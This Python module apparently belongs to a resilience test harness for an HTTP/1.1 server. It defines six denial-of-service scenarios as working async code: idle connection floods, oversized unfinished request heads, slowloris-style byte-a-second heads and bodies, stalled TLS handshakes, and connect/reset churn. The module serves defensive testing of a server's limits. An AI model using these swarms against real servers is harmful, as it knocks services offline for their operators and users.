"""Attacks that occupy or exhaust connections over HTTP/1.1."""

import asyncio

from attackers import attack

REFUSED = b"GET /api HTTP/1.1\r\nHost: a\r\n\r\n"


@attack("idle-connections", "500 connections, one 401 each, then idle, with limits.connections: 500", limits="connections: 500")
async def idle_connections(attacker):
    async def client(_):
        own = await attacker.connect()
        await attacker.send(own, REFUSED)
        await attacker.response(own)
        await attacker.until_closed(own)

    await attacker.swarm(500, attacker.persistent(client))


@attack("unfinished-heads", "5,000 connections with 60 KB of an unfinished head each", recovers=True)
async def unfinished_heads(attacker):
    head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: %s\r\n" % (n, b"a" * 990) for n in range(60))

    async def client(_):
        own = await attacker.connect()
        await attacker.send(own, head)
        await attacker.until_closed(own)

    await attacker.swarm(5000, client)


@attack("slow-heads", "2,000 connections that send a head at one byte a second", recovers=True)
async def slow_heads(attacker):
    async def client(_):
        own = await attacker.connect()
        for byte in b"GET /api HTTP/1.1\r\nHost: a\r\nX-Slow: " + b"a" * 1000:
            await attacker.send(own, bytes([byte]))
            await asyncio.sleep(1)

    await attacker.swarm(2000, client)


@attack("tls-handshakes", "2,000 connections over which a TLS handshake begins and does not end", is_tls=True)
async def tls_handshakes(attacker):
    # The first half of a 512-byte record with a ClientHello.
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(245)

    async def client(_):
        own = await attacker.connect()
        await attacker.send(own, hello)
        await attacker.until_closed(own)

    await attacker.swarm(2000, client)


@attack("slow-bodies", "1,000 refused requests that send their bodies at one byte a second")
async def slow_bodies(attacker):
    async def client(_):
        own = await attacker.connect()
        await attacker.send(own, b"POST /api HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
        while True:
            await attacker.send(own, b"x")
            await asyncio.sleep(1)

    await attacker.swarm(1000, client)


@attack("churn", "connect and close as fast as two processes can, one in ten with a request", processes=2)
async def churn(attacker):
    async def client(number):
        for count in range(2000):
            own = await attacker.connect()
            attacker.sockets.pop()
            if count % 10 == 9:
                await attacker.send(own, REFUSED)
            attacker.reset(own)
            attacker.begun.add(number)

    # Reset connections leave no port in TIME_WAIT; the limit keeps the kernel's tables small anyway.
    await attacker.swarm(16, client)
